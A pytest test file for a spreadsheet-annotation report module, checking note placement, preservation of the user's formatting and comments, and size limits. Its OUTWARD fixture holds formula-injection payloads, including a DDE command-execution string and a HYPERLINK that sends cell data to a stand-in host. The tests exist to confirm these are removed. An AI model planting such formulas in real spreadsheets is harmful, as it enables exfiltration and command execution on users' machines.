"""A file handed back with notes: theirs stays as it was, what we write is text, and nothing costs all memory."""

import io
from dataclasses import dataclass
from datetime import date, datetime

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink
from payloads import CORPUS

from core.domain.plain_sheet import NOTES_SHEET, PlainSheet
from core.reports import annotated as module
from core.reports.annotated import annotated
from core.reports.notes_words import AUTHOR, COPIED, IN_PLACE, OURS, SHORTENED

ORANGE = "FFF4B183"


@dataclass
class Mark:
    place: str
    column: str = "Nilai"
    found: str = "entah"
    sentence: str = "Isi sel ini bukan angka."
    mend: str = "Tulis angkanya saja."


def book_of(*rows, title="Rekap"):
    book = openpyxl.Workbook()
    book.active.title = title
    for row in rows:
        book.active.append(row)
    return book, book.active


def saved(book):
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def plain(*rows, name="Rekap", **more):
    cells = {
        number: {at: cell for at, cell in enumerate(row) if cell is not None}
        for number, row in enumerate(rows, start=1)
    }
    columns = {str(cell): at for at, cell in enumerate(rows[0])} if rows else {}
    return PlainSheet(name, cells, **({"columns": columns, "header": 1} | more))


ROWS = (["Kecamatan", "Nilai"], ["Kuaro", "entah"], ["Long Ikis", 8])


def opened(content, **options):
    return openpyxl.load_workbook(io.BytesIO(content), **options)


def handed_back(*places, rows=ROWS, change=None, sheet=None, title="Rekap"):
    book, own = book_of(*rows, title=title)
    if change:
        change(book, own)
    return opened(annotated(saved(book), [Mark(place) for place in places], sheet or plain(*rows, name=title)))


def commented(book):
    return {
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.comment
    }


@pytest.mark.parametrize(
    ("place", "cell"),
    [
        ("Rekap!B2", "Rekap!B2"),
        ("Rekap!2", "Rekap!A2"),
        ("kolom Nilai", "Rekap!B1"),
        ("baris 3, kolom Nilai", "Rekap!B3"),
        ("baris 3", "Rekap!A3"),
        ("baris 3, kolom Entah", "Rekap!A3"),
    ],
)
def test_each_form_of_a_place_leads_to_its_cell(place, cell):
    book = handed_back(place)
    assert commented(book) == {cell}
    note = book[NOTES_SHEET]["B6"]
    assert (note.value, note.hyperlink.location) == (place, cell.replace("Rekap!", "'Rekap'!"))


@pytest.mark.parametrize(
    "place",
    [
        "",
        "Lain!C7",
        "Rekap!ZZZ9",
        "Rekap!A9999999",
        "Rekap!A0",
        "/records/3/nilai",
        "lapisan titik",
        "kolom Entah",
        "!",
    ],
)
def test_a_place_that_leads_nowhere_is_listed_and_nothing_else(place):
    book = handed_back(place)
    assert commented(book) == set()
    assert (book[NOTES_SHEET]["B6"].value or "", book[NOTES_SHEET]["B6"].hyperlink) == (place, None)


@pytest.mark.parametrize("title", ["Jan's", "a!b", "Data 2026 (final)", "=1+1", "'"])
def test_names_of_sheets_are_quoted_where_a_way_leads_to_them(title):
    if title == "'":
        title = "Ma'ruf 'x"
    book = handed_back(f"{title}!B2", title=title)
    assert commented(book) == {f"{title}!B2"}
    quoted = title.replace("'", "''")
    assert book[NOTES_SHEET]["B6"].hyperlink.location == f"'{quoted}'!B2"


def test_a_note_within_a_merged_cell_stands_at_its_first():
    book = handed_back("Rekap!B3", change=lambda _book, sheet: sheet.merge_cells("B2:B3"))
    assert commented(book) == {"Rekap!B2"}
    assert [str(one) for one in book["Rekap"].merged_cells.ranges] == ["B2:B3"]


def test_what_was_hidden_stays_hidden_and_no_way_leads_there():
    def change(book, sheet):
        book.create_sheet("Lain")
        sheet.sheet_state = "hidden"
        sheet.row_dimensions[3].hidden = True
        sheet.column_dimensions["A"].hidden = True

    book = handed_back("Rekap!B2", change=change)
    sheet = book["Rekap"]
    assert (sheet.sheet_state, sheet.row_dimensions[3].hidden, sheet.column_dimensions["A"].hidden) == (
        "hidden",
        True,
        True,
    )
    assert book[NOTES_SHEET]["B6"].hyperlink is None


def test_formulas_stay_and_so_do_their_results():
    book, sheet = book_of(["Kecamatan", "Nilai", "Ket"], ["Kuaro", "entah", None])
    sheet["B3"], sheet["C2"], sheet["C3"] = "=1+1", '=IF(1=1,"a<b","")', "=1/0"
    content = saved(book)
    part = "xl/worksheets/sheet1.xml"
    results = {part: {"B3": 2.5, "C2": "a<b", "C3": "#DIV/0!"}}
    content = module.with_results(content, results)
    back = annotated(content, [Mark("Rekap!B2")], plain(*ROWS))
    names = ("B3", "C2", "C3")
    assert [opened(back)["Rekap"][name].value for name in names] == ["=1+1", '=IF(1=1,"a<b","")', "=1/0"]
    assert [opened(back, data_only=True)["Rekap"][name].value for name in names] == [2.5, "a<b", "#DIV/0!"]


def test_a_comment_of_theirs_stays_before_ours_and_alone_when_ours_goes():
    def change(_book, sheet):
        sheet["B2"].comment = Comment("tanya Bu Sa'diyah", "Ma'ruf")

    book = handed_back("Rekap!B2", change=change)
    comment = book["Rekap"]["B2"].comment
    assert comment.text.startswith(f"tanya Bu Sa'diyah{OURS}")
    again = opened(annotated(saved(book), [], plain(*ROWS)))
    assert (again["Rekap"]["B2"].comment.text, again["Rekap"]["B2"].comment.author) == ("tanya Bu Sa'diyah", "Ma'ruf")
    assert again.sheetnames == [NOTES_SHEET, "Rekap"]


def test_several_notes_on_one_cell_are_one_comment():
    book = handed_back("Rekap!B2", "Rekap!B2")
    comment = book["Rekap"]["B2"].comment
    assert (comment.text.count("Isi sel ini bukan angka."), comment.author) == (2, AUTHOR)
    assert book["Rekap"]["B2"].fill.fgColor.rgb == ORANGE


@pytest.mark.parametrize("text", [*CORPUS, "\ud800", "\ufffe", "x" * 40_000, "#N/A", "-", "007"])
def test_nothing_that_others_wrote_becomes_a_formula_a_link_or_a_broken_file(text):
    book, _ = book_of(*ROWS)
    mark = Mark("Rekap!B2", text, text, text, text)
    for sheet in (plain(*ROWS), plain(["Kecamatan", "Nilai"], [text, text], name="")):
        content = saved(book) if sheet.name else b"Kecamatan;Nilai\n"
        back = opened(annotated(content, [mark], sheet))
        cells = [cell for one in back for row in one.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} <= {"s", "n"}
        assert all(cell.hyperlink is None or cell.hyperlink.target is None for cell in cells)
        assert all(len(cell.value) <= 32_767 for cell in cells if cell.data_type == "s")
    assert back[NOTES_SHEET]["D6"].quotePrefix or not text.startswith(("=", "+", "-", "@", "\t", "\r"))


OUTWARD = (
    '=HYPERLINK("http://contoh.test/?"&A2,"klik")',
    '=IF(TRUE,WEBSERVICE("http://contoh.test"),1)',
    "=cmd|' /C calc'!A0",
    "=[1]Lain!$B$3",
    "='C:\\data\\[lain.xlsx]Rekap 2'!B3",
)


@pytest.mark.parametrize("formula", OUTWARD)
def test_what_leads_out_of_their_workbook_is_taken_out_of_what_is_handed_back(formula):
    def change(book, sheet):
        sheet["C2"], sheet["C3"] = formula, "=SUM(B3:B3)"
        sheet["A2"].hyperlink = "http://contoh.test"
        sheet["A3"].hyperlink = Hyperlink(ref="A3", location="Rekap!B3")
        book.defined_names["luar"] = DefinedName("luar", attr_text=formula.removeprefix("="))
        book.defined_names["dalam"] = DefinedName("dalam", attr_text="Rekap!$B$3")
        sheet.add_data_validation(DataValidation("custom", formula1=formula.removeprefix("="), sqref="D2"))
        sheet.add_data_validation(DataValidation("list", formula1='"a,b"', sqref="D3"))

    book = handed_back("Rekap!B2", change=change)
    sheet = book["Rekap"]
    assert (sheet["C2"].value, sheet["C3"].value) == (None, "=SUM(B3:B3)")
    assert (sheet["A2"].value, sheet["A2"].hyperlink) == ("Kuaro", None)
    assert sheet["A3"].hyperlink.location == "Rekap!B3"
    assert list(book.defined_names) == ["dalam"]
    assert [str(one.sqref) for one in sheet.data_validations.dataValidation] == ["D3"]


@pytest.mark.parametrize("result", ["=1+1", "klik", 2.5, "#N/A", True])
def test_a_formula_that_leads_out_comes_back_as_what_it_came_to(result):
    book, sheet = book_of(*ROWS)
    sheet["C2"] = OUTWARD[0]
    content = module.with_results(saved(book), {"xl/worksheets/sheet1.xml": {"C2": result}})
    cell = opened(annotated(content, [Mark("Rekap!B2")], plain(*ROWS)))["Rekap"]["C2"]
    assert (cell.value, cell.data_type == "f") == (result, False)


@pytest.mark.parametrize("formula", ['=IF(A2="a|b",1,2)', "=SUM(Tabel1[Nilai])", '=A2&"[x]"&"!"', "=B3|1"])
def test_a_formula_that_stays_inside_stays(formula):
    book = handed_back("Rekap!B2", change=lambda _book, sheet: sheet.__setitem__("C2", formula))
    assert book["Rekap"]["C2"].value == formula


def test_what_is_no_xlsx_becomes_a_copy_with_everything_in_its_place():
    sheet = plain(
        ["Kecamatan", "Nilai", "Tanggal"],
        ["Kuaro", "entah", datetime(2026, 3, 14)],
        ["Long Ikis", 8.25, date(1800, 1, 1)],
        name="Rekap",
        merges=((2, 2, 3, 2),),
        hidden_rows=frozenset({3}),
        hidden_columns=frozenset({0}),
    )
    book = opened(annotated(b"\xd0\xcf\x11\xe0", [Mark("Rekap!B2"), Mark("Rekap!C3")], sheet))
    assert commented(book) == {"Rekap!B2", "Rekap!C2"}
    rows = [[cell.value for cell in row] for row in book["Rekap"].iter_rows()]
    assert rows[1][:2] + rows[2][:2] == ["Kuaro", "entah", "Long Ikis", 8.25]
    assert book["Rekap"].row_dimensions[3].hidden
    assert book["Rekap"].column_dimensions["A"].hidden
    assert book[NOTES_SHEET]["A3"].value == COPIED


def test_a_text_file_is_marked_by_the_titles_of_its_columns():
    sheet = plain(["kecamatan", "nilai"], ["Kuaro", "entah"], name="")
    book = opened(annotated(b"kecamatan;nilai\nKuaro;entah\n", [Mark("baris 2, kolom nilai"), Mark("baris 2")], sheet))
    assert commented(book) == {"Isi berkas!B2", "Isi berkas!A2"}


def test_a_workbook_that_cannot_be_opened_again_is_handed_back_as_a_copy():
    content = saved(book_of(*ROWS)[0])
    damaged = content.replace(b"xl/styles.xml", b"xl/stylez.xml")
    book = opened(annotated(damaged, [Mark("Rekap!B2")], plain(*ROWS)))
    assert commented(book) == {"Rekap!B2"}


@pytest.mark.parametrize("reference", ["A1:XFD1048576", "A1:A1048576"])
def test_a_range_that_would_cost_all_memory_is_not_unrolled(reference):
    def change(_book, sheet):
        sheet["A1"].hyperlink = "https://contoh.test"
        sheet["A1"].hyperlink.ref = reference

    book = handed_back("Rekap!B2", change=change)
    assert book[NOTES_SHEET]["A3"].value == COPIED
    assert commented(book) == {"Rekap!B2"}


def test_of_a_large_file_the_title_and_the_refused_rows_are_copied(monkeypatch):
    monkeypatch.setattr(module, "MOST_CELLS", 5)
    book = handed_back("Rekap!B3")
    assert book[NOTES_SHEET]["A3"].value == SHORTENED
    assert [[cell.value for cell in row] for row in book["Rekap"].iter_rows()] == [
        ["Kecamatan", "Nilai"],
        [None, None],
        ["Long Ikis", 8],
    ]


def test_of_very_many_notes_the_first_are_comments_and_all_are_counted():
    rows = [["Kecamatan", "Nilai"], *(["Kuaro", "x"] for _ in range(12_000))]
    marks = [Mark(f"Rekap!B{number}") for number in range(2, 12_002)]
    book = opened(annotated(saved(book_of(*rows)[0]), marks, plain(*rows)))
    assert len(commented(book)) == module.MOST_COMMENTS
    sheet = book[NOTES_SHEET]
    assert sheet["A2"].value.startswith("12000 ")
    assert "2000" in sheet["A4"].value
    assert (sheet["B10005"].value, "2000" in sheet["B10006"].value) == ("Rekap!B10001", True)


def test_a_file_without_anything_refused_says_so():
    book = handed_back()
    assert "Tidak ada yang ditolak" in book[NOTES_SHEET]["A2"].value
    assert commented(book) == set()


def test_the_file_itself_is_what_is_handed_back():
    def change(_book, sheet):
        sheet["B3"].number_format = "0.00%"
        sheet["D9"] = datetime(2026, 3, 14)
        sheet.freeze_panes = "A2"

    book = handed_back("Rekap!B2", change=change)
    assert (book["Rekap"]["B3"].number_format, book["Rekap"]["D9"].value) == ("0.00%", datetime(2026, 3, 14))
    assert (book["Rekap"].freeze_panes, book[NOTES_SHEET]["A3"].value) == ("A2", IN_PLACE)
